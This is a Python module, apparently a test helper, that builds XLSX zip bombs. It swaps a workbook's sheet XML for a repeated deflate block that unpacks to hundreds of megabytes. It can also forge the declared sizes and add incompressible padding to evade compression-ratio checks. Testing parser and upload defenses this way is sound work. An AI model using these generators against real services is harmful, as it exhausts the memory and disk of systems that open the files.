"""XLSX zip bombs built in milliseconds: a real workbook whose sheet part is replaced by XML that
unpacks to hundreds of megabytes (raw deflate blocks ended by a full flush are identical, so the
compressed part is one block repeated), written as a zip by hand so the declared sizes can lie too."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

import openpyxl

SHEET = "xl/worksheets/sheet1.xml"
_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>job</t></is></c><c r="B1" t="inlineStr"><is><t>task</t></is></c></row>'
)
_CLOSE = b"</sheetData></worksheet>"


def _deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _repeated(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk * times + tail, its CRC-32 and its size, in O(len(chunk)) work."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return start + block * times + end, crc, len(head) + len(chunk) * times + len(tail)


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """(name, deflated body, crc, declared unpacked size) -> the bytes of a zip archive."""
    out = io.BytesIO()
    central = []
    for name, body, crc, size in members:
        offset, raw = out.tell(), name.encode()
        out.write(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), size, len(raw), 0)
        )
        out.write(raw + body)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(body), size, len(raw),
                0, 0, 0, 0, 0, offset,
            )
            + raw
        )  # fmt: skip
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0)
    )
    return out.getvalue()


def xlsx_bomb(unpacked: int, cells_per_row: int = 10, declared: int | None = None, padding: int = 0) -> bytes:
    """A workbook whose first sheet unpacks to about `unpacked` bytes of rows (`cells_per_row` cells
    each); `declared` makes the zip claim another size for that part; `padding` adds an incompressible
    picture of that many bytes, so the file is as large as a real one (a ratio check does not see it)."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["job", "task"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    members = []
    with zipfile.ZipFile(buffer) as archive:
        for info in archive.infolist():
            if info.filename == SHEET:
                continue
            data = archive.read(info)
            members.append((info.filename, _deflated(data), zlib.crc32(data), len(data)))
    if padding:
        picture = os.urandom(padding)
        stored = zlib.compressobj(0, zlib.DEFLATED, -15)
        body = stored.compress(picture) + stored.flush()
        members.append(("xl/media/image1.png", body, zlib.crc32(picture), padding))
    cell = b'<c t="inlineStr"><is><t>boom</t></is></c>'
    rows = (b"<row>" + cell * cells_per_row + b"</row>") * max(1, 50_000 // (len(cell) * cells_per_row))
    body, crc, size = _repeated(_OPEN, rows, max(1, unpacked // len(rows)), _CLOSE)
    members.append((SHEET, body, crc, size if declared is None else declared))
    return _zip(members)
